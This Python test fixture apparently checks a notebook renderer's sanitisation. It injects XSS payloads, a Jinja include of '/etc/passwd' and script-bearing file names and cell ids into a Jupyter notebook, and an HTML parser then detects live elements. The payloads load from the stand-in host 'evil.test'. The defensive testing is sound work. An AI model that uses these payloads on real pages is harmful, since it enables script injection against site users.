"""A notebook as a learner who means harm would hand it in, and what a page must never do with it."""

from __future__ import annotations

import json
from html.parser import HTMLParser

EVIL = "http://evil.test"
RUN = "document.title='owned';window.owned=1;alert(1)"
MARKDOWN = {
    "script": f"<script>{RUN}</script>",
    "fetching script": f"<script src='{EVIL}/s.js'></script>",
    "image": f'<img src=x onerror="{RUN}">',
    "svg": f'<svg onload="{RUN}"><circle r=9></svg>',
    "frame": f"<iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe><iframe src='{EVIL}/f'></iframe>",
    "style": f"<style>@import '{EVIL}/c.css'; body {{ background: url({EVIL}/b.png) }}</style>",
    "link": f'[click](javascript:{RUN}) <a href="javascript:{RUN}">click</a>',
    "picture": f"![p]({EVIL}/md.png) ![r][r]\n\n[r]: {EVIL}/ref.png",
    "formula": rf"$\href{{javascript:{RUN}}}{{x}}$ $$\unicode{{<img src=x onerror={RUN}>}}$$",
    "closing": f"</pre></div></div><script>{RUN}</script>\n\n    <script>{RUN}</script>\n```\n</code><img src={EVIL}/fence.png>\n```",
    "base": f"<base href='{EVIL}/'><meta http-equiv=refresh content='0;url={EVIL}/r'><form action={EVIL}><button autofocus onfocus={RUN}>b</button></form>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "jinja": "{{ resources }} {% include '/etc/passwd' %}",
}


def hostile(book: dict, target) -> None:
    """Change a released notebook (parsed JSON) and its folder: added cells of every kind, changed ones, outputs, metadata, file names."""
    html = "".join(MARKDOWN.values())
    state = {"version_major": 2, "version_minor": 0, "state": {"m": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0", "state": {"value": html}}}}  # fmt: skip
    outputs = [
        {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}}, "data": {"text/html": html, "text/plain": "x"}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": RUN}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": MARKDOWN["svg"]}},
        {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": html}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "m"}}},
        {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{html}"},
        {"output_type": "error", "ename": html, "evalue": html, "traceback": [html]},
    ]
    for cell in book["cells"]:
        cell["metadata"]["tags"] = ['"><script>alert(1)</script>', "remove_cell"]
        if cell["cell_type"] == "code":
            cell["outputs"] = [*cell["outputs"], *outputs]
    words = next(c for c in book["cells"] if c["cell_type"] == "markdown" and not c["metadata"].get("nbgrader"))
    words["source"] = f"changed-by-me {html}"
    attached = {"a.svg": {"image/svg+xml": MARKDOWN["svg"]}, '"><script>alert(1)</script>.png': {"image/png": "AAAA"}}
    for n, text in enumerate(MARKDOWN.values()):
        book["cells"].insert(n * 2, {"cell_type": "markdown", "id": f"bad-{n}", "metadata": {}, "source": f"added-{n} {text} ![a](attachment:a.svg)", "attachments": attached})  # fmt: skip
    book["cells"] += [
        {"cell_type": "raw", "id": "bad-raw", "metadata": {"raw_mimetype": "text/html"}, "source": f"added-raw {html}"},
        {
            "cell_type": "code",
            "id": "bad-code",
            "metadata": {},
            "source": f"# added-code\n%%html\n{html}",
            "outputs": outputs,
            "execution_count": 1,
        },
        {
            "cell_type": "code",
            "id": 'x"><script>alert(1)</script>',
            "metadata": {"nbgrader": {"grade_id": html, "task": True, "points": 9}},
            "source": "open('ran.txt', 'w')",
            "outputs": outputs,
        },  # fmt: skip
    ]
    book["metadata"] |= {
        "title": f"</title>{html}",
        "widgets": {"application/vnd.jupyter.widget-state+json": state},
        "language_info": {"name": html, "pygments_lexer": html},
        "authors": [{"name": html}],
    }
    (target / "page.html").write_text(f"<script>{RUN}</script>", encoding="utf-8")
    (target / "<img src=x onerror=alert(1)>.html").write_text(html, encoding="utf-8")
    (target / "answers").mkdir(exist_ok=True)
    (target / "answers" / "<svg onload=alert(1)>.json").write_text(json.dumps({"schema": html}), encoding="utf-8")


def added_words(book: dict, target) -> None:
    """Only text cells, as anybody may add one: a notebook that is valid in every respect."""
    for n, text in enumerate(MARKDOWN.values()):
        book["cells"].insert(n + 1, {"cell_type": "markdown", "id": f"more-{n}", "metadata": {}, "source": f"more-{n} {text}"})


class _Live(HTMLParser):
    """Collects what of a page could run or fetch something."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed", "base", "form", "svg", "video", "audio", "button") or tag == "link":
            self.found.append(f"<{tag} {attrs}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name == "srcdoc" or value.startswith(("javascript:", "http:", "https:", "//", "vbscript:")):
                self.found.append(f"{tag} {name}={value[:60]}")
            if name in ("src", "background", "poster") and value and not value.startswith(("data:image/", "#")):
                self.found.append(f"{tag} {name}={value[:60]}")
        if tag == "style":
            self.in_style = True

    def handle_endtag(self, tag):
        if tag == "style":
            self.in_style = False

    in_style = False

    def handle_data(self, data):
        if self.in_style and ("evil.test" in data or "@import" in data):
            self.found.append(f"style {data[:60]}")
        self.text.append(data)


def live(html: str) -> list[str]:
    """What in a page's HTML would run or be fetched when it is opened."""
    page = _Live()
    page.feed(html)
    return page.found


def words(html: str) -> str:
    page = _Live()
    page.feed(html)
    return "".join(page.text)
